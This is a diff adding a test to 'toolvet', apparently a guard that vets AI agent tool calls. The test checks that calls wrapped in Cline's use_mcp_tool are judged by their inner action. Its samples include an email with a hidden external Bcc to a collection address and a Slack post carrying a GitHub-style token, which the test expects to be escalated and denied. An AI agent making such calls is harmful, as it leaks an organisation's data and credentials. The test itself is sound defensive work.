@@ -2,7 +2,8 @@
 //! reaches the check that judges what it does whatever the tool is called,
 //! and `toolvet explain` shows how it was understood.
 //!
-//! Components: `make plugins` (tool-policy, shell-guard, spend-guard).
+//! Components: `make plugins` (tool-policy, shell-guard, spend-guard,
+//! secrets-guard, message-guard).
 
 use serde_json::{Value, json};
 use toolvet::{Decision, Host};
@@ -207,4 +208,59 @@ fn explain_shows_the_catalog_entry_the_inferred_effects_and_the_routes() {
     let run = run_cli(&["explain", "--config", "toolvet.toml"], dir.path(), "");
     assert_eq!(run.code, 2);
     assert!(run.stderr.contains("no calls given"), "{}", run.stderr);
+}
+
+/// A call made through a wrapping tool (Cline's `use_mcp_tool`) is judged
+/// for the call it makes: the mail's outside Bcc by the message check, the
+/// token sent to Slack by the secrets check, and listing channels passes.
+#[tokio::test]
+async fn a_call_through_use_mcp_tool_is_judged_for_the_call_it_makes() {
+    let host = load_ok(json!({"check": [
+        shipped("secrets", "secrets_guard", json!({})),
+        shipped("messages", "message_guard", json!({"internal_domains": ["acme.com"]})),
+    ]}))
+    .await;
+    let wrapped = |server: &str, tool: &str, arguments: Value| {
+        call(
+            "use_mcp_tool",
+            json!({"server_name": server, "tool_name": tool, "arguments": arguments}),
+        )
+    };
+    let v = host
+        .check(&wrapped(
+            "gmail",
+            "send_email",
+            json!({"to": ["bob@acme.com"], "bcc": ["collect.inbox@proton.me"],
+                "subject": "Q3 numbers", "body": "Attached."}),
+        ))
+        .await;
+    assert_eq!(
+        (v.decision, v.rule.as_deref()),
+        (Decision::Escalate, Some("message.external-recipient")),
+        "{v:?}"
+    );
+    assert!(
+        v.reason
+            .as_deref()
+            .unwrap()
+            .contains("collect.inbox@proton.me"),
+        "{v:?}"
+    );
+    // Cline sends the inner arguments as JSON text.
+    let token = "ghp_R4nd0mT0k3nV4lu3Xq9Lm2Np8Kd7Wz5Yb1Cc3E";
+    let text = json!({"channel_id": "C01", "text": format!("token: {token}")}).to_string();
+    let v = host
+        .check(&wrapped("slack", "slack_post_message", Value::String(text)))
+        .await;
+    assert_eq!(v.decision, Decision::Deny, "{v:?}");
+    assert_eq!(v.decided_by.as_deref(), Some("secrets"), "{v:?}");
+    assert!(!v.reason.as_deref().unwrap().contains(token), "{v:?}");
+    let v = host
+        .check(&wrapped(
+            "slack",
+            "slack_list_channels",
+            json!({"limit": 50}),
+        ))
+        .await;
+    assert_eq!(v.decision, Decision::Allow, "{v:?}");
 }
